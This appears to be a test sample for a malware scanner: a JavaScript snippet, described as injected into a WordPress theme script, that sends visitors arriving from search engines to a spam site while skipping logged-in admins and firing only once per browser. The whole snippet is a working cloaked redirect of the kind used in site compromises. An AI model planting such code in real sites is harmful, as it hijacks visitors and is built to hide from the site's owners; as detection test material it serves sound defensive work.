/* Test sample: injected at the end of a theme script; only visitors coming
   from a search engine (and not logged-in admins) are sent to a spam site. */
(function () {
    var ref = document.referrer.toLowerCase();
    var engines = /(google\.|bing\.|yahoo\.|yandex\.|baidu\.|duckduckgo\.)/;
    if (engines.test(ref) && document.cookie.indexOf('wordpress_logged_in') === -1 && !localStorage.getItem('_r')) {
        localStorage.setItem('_r', '1');
        window.location.replace('http://spam.example/go/?kw=' + encodeURIComponent(ref));
    }
})();
